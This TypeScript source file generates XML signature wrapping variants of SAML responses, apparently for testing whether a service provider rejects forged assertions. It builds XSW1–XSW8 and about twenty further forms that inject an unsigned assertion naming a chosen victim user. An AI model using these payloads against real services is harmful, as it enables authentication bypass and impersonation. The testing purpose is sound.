/**
 * Ways to wrap signed content into other content (XML signature wrapping, with the names XSW1 to XSW8 from Somorovsky
 * et al., 2012).
 */
import { EXCLUSIVE } from './idp.js'

interface Pieces {
  /** The start tag of the response. */
  head: string
  issuer: string
  status: string
  /** The signed assertion, its signature, and the assertion without it. */
  assertion: string
  signature: string
  bare: string
  /** The attacker's assertion: unsigned, with another ID. */
  evil: string
}

const between = (xml: string, start: RegExp, end: string): string => {
  const from = xml.search(start)
  return xml.slice(from, xml.indexOf(end, from) + end.length)
}

function piecesOf(xml: string, victim: string): Pieces {
  const assertion = between(xml, /<saml:Assertion /, '</saml:Assertion>')
  const signature = between(assertion, /<ds:Signature /, '</ds:Signature>')
  const bare = assertion.replace(signature, '')
  const evil = bare.replace(/ ID="[^"]*"/, ' ID="_evil"').replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`)
  return {
    head: xml.slice(0, xml.indexOf('>') + 1),
    issuer: between(xml, /<saml:Issuer /, '</saml:Issuer>'),
    status: between(xml, /<samlp:Status>/, '</samlp:Status>'),
    assertion,
    signature,
    bare,
    evil,
  }
}

const END = '</samlp:Response>'
const inside = (element: string, more: string): string =>
  element.replace(/<\/(?:saml|samlp|ds):\w+>$/, (end) => more + end)
const afterIssuer = (assertion: string, more: string): string =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${more}`)
const otherId = (head: string): string => head.replace(/ ID="[^"]*"/, ' ID="_outer"')
const object = (content: string): string => `<ds:Object>${content}</ds:Object>`

/**
 * Wrapped forms of a response, by name.
 * @param xml a response whose assertion is signed
 * @param whole a response that is signed as a whole
 * @param victim the NameID that the attacker wants the service to read
 */
export function wrapped(xml: string, whole: string, victim: string): Record<string, string> {
  const { head, issuer, status, assertion, signature, bare, evil } = piecesOf(xml, victim)
  const of = (...parts: string[]): string => [head, issuer, status, ...parts, END].join('')
  const outer = between(whole, /<ds:Signature /, '</ds:Signature>')
  const original = whole.replace(outer, '')
  const evilResponse = (more: string): string => [otherId(head), issuer, more, status, evil, END].join('')
  const id = (/ ID="([^"]*)"/.exec(bare) as RegExpExecArray)[1] as string
  const sameId = evil.replace('"_evil"', `"${id}"`)
  return {
    'XSW1: the response in the signature of another': evilResponse(inside(outer, original)),
    'XSW2: the response next to the signature of another one': evilResponse(outer + original),
    'XSW3: another assertion before the signed one': of(evil, assertion),
    'XSW4: the signed assertion in another': of(inside(evil, assertion)),
    'XSW5: the signature in another assertion, the signed one after it': of(afterIssuer(evil, signature), bare),
    'XSW6: the signed assertion in the signature of another': of(afterIssuer(evil, inside(signature, bare))),
    'XSW7: another assertion among extensions': of(`<samlp:Extensions>${evil}</samlp:Extensions>`, assertion),
    'XSW8: the signed assertion in an Object of the signature of another': of(
      afterIssuer(evil, inside(signature, object(bare))),
    ),
    'another assertion after the signed one': of(assertion, evil),
    'another assertion with the same ID': of(sameId, assertion),
    'another assertion with the same ID, after it': of(assertion, sameId),
    'the signed assertion in another with the same ID': of(inside(sameId, assertion)),
    'another assertion in an attribute of the signed one': of(
      inside(
        assertion,
        `<saml:AttributeStatement><saml:Attribute Name="x"><saml:AttributeValue>${evil}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
      ),
    ),
    'another assertion in the status': [head, issuer, inside(status, evil), assertion, END].join(''),
    'the signed assertion in the KeyInfo of another': of(
      afterIssuer(evil, inside(signature, `<ds:KeyInfo>${bare}</ds:KeyInfo>`)),
    ),
    'the signed assertion in Advice': of(inside(evil, `<saml:Advice>${assertion}</saml:Advice>`)),
    'an assertion of no namespace beside': of(evil.replaceAll('saml:', '').replace('xmlns:saml', 'xmlns:x'), assertion),
    'another response around': [otherId(head), issuer, status, evil, xml, END].join(''),
    'an ID of another spelling': of(afterIssuer(evil.replace('ID="_evil"', `ID="_evil" Id="${id}"`), signature), bare),
    'a second reference': xml.replace(
      '</ds:SignedInfo>',
      `${between(xml, /<ds:Reference /, '</ds:Reference>')}</ds:SignedInfo>`,
    ),
    'a second SignedInfo': xml.replace(
      '<ds:SignatureValue>',
      `${between(xml, /<ds:SignedInfo>/, '</ds:SignedInfo>')}<ds:SignatureValue>`,
    ),
    'a second signature': xml.replace('</ds:Signature>', `</ds:Signature>${signature}`),
    'no reference URI': xml.replace(/ URI="#[^"]*"/, ' URI=""'),
    'an expression as reference URI': xml.replace(/ URI="#[^"]*"/, ` URI="#xpointer(id('_evil'))"`),
    'a transform that selects': xml.replace(
      `Algorithm="${EXCLUSIVE}"/></ds:Transforms>`,
      'Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"/></ds:Transforms>',
    ),
    'a transform by style sheet': xml.replace(
      `Algorithm="${EXCLUSIVE}"/></ds:Transforms>`,
      'Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/></ds:Transforms>',
    ),
    'canonicalization with comments': xml.replaceAll(EXCLUSIVE, `${EXCLUSIVE}WithComments`),
  }
}
